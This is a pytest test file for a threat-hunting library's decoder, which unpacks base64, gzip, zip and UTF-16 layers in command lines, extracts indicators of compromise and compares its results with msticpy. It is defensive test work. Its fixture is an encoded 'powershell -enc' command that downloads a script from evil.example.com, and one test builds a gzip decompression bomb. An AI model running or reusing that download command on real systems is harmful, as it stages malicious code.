"""hg.decode in the kernel: the shared corpus, string and DataFrame modes, IoCs per layer,
the differential check against msticpy 3.0.2's base64 unpacking, the DecodeView's spec, errors."""

from __future__ import annotations

import base64
import gzip
import io
import json
import os
import random
import subprocess
import zipfile
from pathlib import Path

import pandas as pd
import polars as pl
import pyarrow as pa
import pytest

import huntglass as hg
from huntglass import _kernel
from huntglass._widget import STATIC_DIR

ROOT = Path(__file__).resolve().parents[2]
CASES = ROOT / "tests" / "cases" / "decode"
REFERENCE_PYTHON = ROOT / ".venv-ref" / "bin" / "python"

#: powershell -enc of the UTF-16LE text below.
TEXT = "iwr http://evil.example.com/a.ps1 -OutFile C:\\Users\\Public\\a.ps1"
ENCODED = "powershell.exe -nop -enc " + base64.b64encode(TEXT.encode("utf-16-le")).decode()


@pytest.fixture(autouse=True)
def kernel_built() -> None:
    if not (STATIC_DIR / _kernel.KERNEL_FILE).is_file():
        message = f"{_kernel.KERNEL_FILE} not built (run `make build`)"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
    if "decode.unpack" not in {op["name"] for op in _kernel.operations()}:
        message = f"{_kernel.KERNEL_FILE} predates decode.unpack (run `make build`)"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)


def _corpus() -> list[tuple[str, dict]]:
    cases = []
    for path in sorted(CASES.glob("*.json")):
        doc = json.loads(path.read_text(encoding="utf-8"))
        assert doc["schema"] == "huntglass-decode-cases/1"
        cases.extend((f"{path.name} / {case['name']}", case) for case in doc["cases"])
    assert len(cases) >= 30
    return cases


CORPUS = _corpus()


def _kwargs(options: dict) -> dict:
    kwargs = dict(options)
    mode = kwargs.pop("utf16", None)
    if mode is not None:
        kwargs["utf16"] = mode
    return kwargs


def _check_row(expected: dict, row: dict) -> list[str]:
    problems = []
    simple = {
        "index": "layer",
        "parent": "parent_layer",
        "original_string": "original_string",
        "file_name": "file_name",
        "encoding_type": "encoding_type",
        "decoded": "decoded_string",
        "md5": "md5",
        "sha256": "sha256",
        "size": "size",
    }
    for key, column in simple.items():
        if key in expected and expected[key] != row[column]:
            problems.append(f"{key}: expected {expected[key]!r}, got {row[column]!r}")
    if "file_type" in expected and expected["file_type"] != row["file_type"]:
        problems.append(f"file_type: expected {expected['file_type']!r}, got {row['file_type']!r}")
    if "reference" in expected and tuple(expected["reference"]) != row["reference"]:
        problems.append(f"reference: expected {expected['reference']!r}, got {row['reference']!r}")
    if "chain" in expected and " > ".join(expected["chain"]) != row["chain"]:
        problems.append(f"chain: expected {expected['chain']!r}, got {row['chain']!r}")
    if expected.get("stopped_by") != row["stopped_by"]:
        problems.append(
            f"stopped_by: expected {expected.get('stopped_by')!r}, got {row['stopped_by']!r}"
        )
    if expected.get("error") and not row["error"]:
        problems.append("expected an error message")
    if "size" not in expected and len(row["input_bytes"]) != row["size"]:
        problems.append("size differs from len(input_bytes)")
    return problems


@pytest.mark.parametrize(("label", "case"), CORPUS, ids=[label for label, _ in CORPUS])
def test_corpus_case_through_the_kernel(label: str, case: dict) -> None:
    frame = hg.decode.unpack(case["input"], **_kwargs(case.get("options", {})))
    rows = frame.to_dict("records")
    expected = case["expected"]
    if case.get("exact", True):
        assert len(rows) == len(expected), f"{label}: {[(r['layer'], r['chain']) for r in rows]}"
        for e, r in zip(expected, rows, strict=True):
            assert not _check_row(e, r), f"{label} row {e.get('index')}: {_check_row(e, r)}"
    else:
        position = 0
        for e in expected:
            while position < len(rows) and _check_row(e, rows[position]):
                position += 1
            assert position < len(rows), f"{label}: expected row {e} not found in order"
            position += 1
    full = frame.attrs["full_decoded_string"]
    if "full_decoded_string" in case:
        assert full == case["full_decoded_string"]
    for part in case.get("full_decoded_string_contains", []):
        assert part in full


def test_string_mode_columns_and_display_string() -> None:
    frame = hg.decode.unpack(ENCODED)
    assert list(frame.columns) == [*hg.decode.REFERENCE_COLUMNS, *hg.decode.LAYER_COLUMNS]
    assert len(frame) == 1
    row = frame.iloc[0]
    assert row["decoded_string"] == TEXT
    assert row["reference"] == ("", "1.", "1")
    assert row["chain"] == "base64 > utf16le"
    assert row["encoding_type"] == "utf-16"
    assert isinstance(row["input_bytes"], bytes)
    assert row["input_bytes"] == TEXT.encode("utf-16-le")
    assert row["file_hashes"] == {"md5": row["md5"], "sha1": row["sha1"], "sha256": row["sha256"]}
    assert row["printable_bytes"].startswith("69 00 77 00")
    full = frame.attrs["full_decoded_string"]
    assert full.startswith("powershell.exe -nop -enc <decoded type='string'")
    assert TEXT in full
    empty = hg.decode.unpack("nothing encoded here")
    assert len(empty) == 0
    assert empty.attrs["full_decoded_string"] == "nothing encoded here"


def test_dataframe_mode_index_labels_source_column_and_accessor() -> None:
    df = pd.DataFrame(
        {"CommandLine": ["cmd /c dir", None, ENCODED, 42], "Host": list("abcd")},
        index=[10, 20, 30, 40],
    )
    out = hg.decode.unpack(df, column="CommandLine")
    assert list(out.columns) == [
        *hg.decode.REFERENCE_COLUMNS,
        "src_index",
        "CommandLine",
        "full_decoded_string",
        *hg.decode.LAYER_COLUMNS,
    ]
    assert out["src_index"].tolist() == [30]
    assert out["CommandLine"].tolist() == [ENCODED]
    assert out["decoded_string"].tolist() == [TEXT]
    same = df.hg.decode(column="CommandLine")
    pd.testing.assert_frame_equal(out, same)
    assert hg.decode.unpack(data=df, column="CommandLine").equals(out)


def test_batches_shift_src_index_and_report_progress() -> None:
    texts = [ENCODED if i % 7 == 3 else f"plain line {i}" for i in range(50)]
    df = pd.DataFrame({"T": texts})
    seen = []
    out = hg.decode.unpack(df, column="T", batch_rows=8, progress=lambda d, t: seen.append((d, t)))
    assert out["src_index"].tolist() == [i for i in range(50) if i % 7 == 3]
    assert seen[-1] == (50, 50)
    assert len(seen) == 7
    whole = hg.decode.unpack(df, column="T")
    assert out["src_index"].tolist() == whole["src_index"].tolist()


def test_iocs_per_layer() -> None:
    df = pd.DataFrame({"Cmd": ["ping 10.0.0.1", ENCODED]})
    result = hg.decode.unpack(df, column="Cmd", iocs=True)
    assert isinstance(result, hg.decode.DecodeResult)
    layers, iocs = result
    assert len(layers) == 1
    assert list(iocs.columns) == [
        "src_index",
        "layer",
        "IoCType",
        "Observable",
        "Canonical",
        "Start",
        "End",
    ]
    assert set(iocs["src_index"]) == {1}
    assert {"url", "dns", "windows_path"} <= set(iocs["IoCType"])
    assert "evil.example.com" in set(iocs["Canonical"])
    text = layers.iloc[0]["decoded_string"].encode()
    for _, r in iocs.iterrows():
        assert text[r["Start"] : r["End"]].decode() == r["Observable"]
    one = hg.decode.unpack(ENCODED, iocs=True)
    assert "src_index" not in one.iocs.columns
    assert sorted(one.iocs["Observable"]) == sorted(iocs["Observable"])
    none = hg.decode.unpack(pd.DataFrame({"Cmd": ["plain"]}), column="Cmd", iocs=True)
    assert len(none.layers) == 0
    assert len(none.iocs) == 0


def test_polars_and_pyarrow_flavours() -> None:
    pl_out = hg.decode.unpack(pl.DataFrame({"T": ["x", ENCODED]}), column="T")
    assert isinstance(pl_out, pl.DataFrame)
    assert pl_out["src_index"].to_list() == [1]
    assert pl_out["input_bytes"].dtype == pl.Binary
    table = pa.table({"T": pa.array([ENCODED], pa.large_string())})
    arrow_out = hg.decode.unpack(table, column="T")
    assert isinstance(arrow_out, pa.Table)
    assert arrow_out.column("input_bytes").type == pa.binary()
    assert arrow_out.column("decoded_string").to_pylist() == [TEXT]


def test_limits_are_keywords_and_a_bomb_row_names_its_limit() -> None:
    bomb = base64.b64encode(gzip.compress(b"\0" * (8 << 20))).decode()
    rows = hg.decode.unpack(f"payload {bomb}", max_expansion_ratio=10, expansion_floor_bytes=4096)
    assert "max_expansion_ratio" in set(rows["stopped_by"].dropna())
    assert rows["size"].max() <= max(10 * len(bomb), 4096)
    nested = TEXT
    for _ in range(4):
        nested = base64.b64encode(nested.encode()).decode()
    deep = hg.decode.unpack(nested, max_depth=2)
    assert "max_depth" in set(deep["stopped_by"].dropna())
    assert len(hg.decode.unpack(nested)) == 4


def test_errors_name_what_is_wrong() -> None:
    df = pd.DataFrame({"A": ["x"]})
    with pytest.raises(ValueError, match="column 'B' not found"):
        hg.decode.unpack(df, column="B")
    with pytest.raises(ValueError, match="column is required"):
        hg.decode.unpack(df)
    with pytest.raises(TypeError, match="unknown keyword 'max_dept'"):
        hg.decode.unpack("x", max_dept=3)
    with pytest.raises(ValueError, match="unknown mode 'sometimes'"):
        hg.decode.unpack("x", utf16="sometimes")
    with pytest.raises(ValueError, match="unknown encoding 'rot13'"):
        hg.decode.unpack("x", disable=["rot13"])
    with pytest.raises(ValueError, match="max_records must be at least 1"):
        hg.decode.unpack("x", max_records=0)
    with pytest.raises(TypeError, match="expected a string"):
        hg.decode.unpack(12)


def test_decode_view_spec_and_data(assets: Path) -> None:
    df = pd.DataFrame({"CommandLine": ["a", ENCODED], "Other": [1, 2]})
    widget = df.hg.decode_view(column="CommandLine", max_depth=5, height=300)
    assert widget._kind == "decode_view"
    assert widget._kernel_hash != ""
    assert widget.spec["column"] == "CommandLine"
    assert widget.spec["options"] == {"reference_mode": False, "max_depth": 5}
    assert widget.spec["height"] == 300.0
    sent = widget._hg_data["records"].table
    assert sent.column_names == ["CommandLine"]
    widget.selection = {"records": [1]}
    assert widget.selected["CommandLine"].tolist() == [ENCODED]
    text = hg.DecodeView("just text")
    assert text.spec["column"] == "Text"
    with pytest.raises(ValueError, match="column is required"):
        hg.DecodeView(df)
    with pytest.raises(TypeError, match="unknown keyword 'depth'"):
        hg.DecodeView("x", depth=3)


# Differential check against the reference ------------------------------------------------


def _seeded_inputs(seed: int, n: int) -> list[str]:
    """Command lines with base64 text, gzip, zip and nested base64 (the reference's scope)."""
    rng = random.Random(seed)
    words = ["alpha", "beta", "gamma", "delta", "invoke", "download", "payload", "beacon", "host"]

    def sentence() -> str:
        return " ".join(rng.choice(words) for _ in range(rng.randint(6, 14)))

    out = []
    for i in range(n):
        plain = f"{sentence()} {rng.randint(0, 10**6)}"
        kind = i % 5
        if kind == 0:
            blob = base64.b64encode(plain.encode()).decode()
        elif kind == 1:
            blob = base64.b64encode(gzip.compress(plain.encode(), mtime=0)).decode()
        elif kind == 2:
            buffer = io.BytesIO()
            with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
                info = zipfile.ZipInfo("a.txt", (2020, 1, 1, 0, 0, 0))
                info.compress_type = zipfile.ZIP_DEFLATED  # the reference's zip prefix
                z.writestr(info, plain)
            blob = base64.b64encode(buffer.getvalue()).decode()
        elif kind == 3:
            inner = base64.b64encode(plain.encode()).decode()
            blob = base64.b64encode(f"outer {inner} end".encode()).decode()
        else:
            blob = base64.b64encode(bytes(rng.randrange(256) for _ in range(48))).decode()
        out.append(f"cmd.exe /c run {blob} --flag {rng.randint(0, 99)}")
    return out


def _reference_rows(texts: list[str]) -> list[list[dict]]:
    if not REFERENCE_PYTHON.is_file():
        pytest.skip(f"the reference environment is missing ({REFERENCE_PYTHON})")
    script = """
import json, sys, warnings
warnings.simplefilter("ignore")
from msticpy.transform import base64unpack
out = []
for text in json.load(sys.stdin):
    _, df = base64unpack.unpack(text)
    rows = [] if df is None else df.to_dict("records")
    out.append([{k: r[k] for k in ("decoded_string", "md5", "sha1", "sha256", "file_name",
                 "file_type", "encoding_type")} | {"reference": list(r["reference"])}
                for r in rows])
json.dump(out, sys.stdout)
"""
    done = subprocess.run(
        [str(REFERENCE_PYTHON), "-c", script],
        input=json.dumps(texts),
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    return json.loads(done.stdout)


def test_differential_against_the_reference_on_seeded_base64() -> None:
    texts = _seeded_inputs(seed=20261128, n=60)
    reference = _reference_rows(texts)
    df = pd.DataFrame({"T": texts})
    ours_ref_mode = hg.decode.unpack(df, column="T", reference_mode=True)
    ours_default = hg.decode.unpack(df, column="T")
    keys = ("decoded_string", "md5", "sha1", "sha256", "file_name", "file_type", "encoding_type")
    compared = 0
    for i, ref_rows in enumerate(reference):
        mine = ours_ref_mode[ours_ref_mode["src_index"] == i].to_dict("records")
        # Reference mode: the very same rows (hashes, text, names, types, references).
        assert [tuple(r[k] for k in keys) for r in mine] == [
            tuple(r[k] for k in keys) for r in ref_rows
        ], f"input {i}: {texts[i]}"
        assert [list(r["reference"]) for r in mine] == [r["reference"] for r in ref_rows]
        # Default mode: every blob the reference decodes is among ours with the same hashes
        # and text (we go further: gzip members are also one row, nothing less).
        default = {
            (r["md5"], r["sha256"], r["decoded_string"])
            for r in ours_default[ours_default["src_index"] == i].to_dict("records")
        }
        for r in ref_rows:
            assert (r["md5"], r["sha256"], r["decoded_string"]) in default, f"input {i}: {r}"
            compared += 1
    assert compared >= 60


def test_difference_utf16le_is_read_as_text_where_the_reference_keeps_nuls() -> None:
    """Documented difference: the reference (utf16=False) reads UTF-16LE as UTF-8 with NULs."""
    reference = _reference_rows([ENCODED])[0]
    assert len(reference) == 1
    assert reference[0]["decoded_string"] == TEXT.encode("utf-16-le").decode("utf-8")
    ours = hg.decode.unpack(ENCODED).iloc[0]
    assert ours["decoded_string"] == TEXT
    assert ours["md5"] == reference[0]["md5"]
    same = hg.decode.unpack(ENCODED, reference_mode=True).iloc[0]
    assert same["decoded_string"] == reference[0]["decoded_string"]
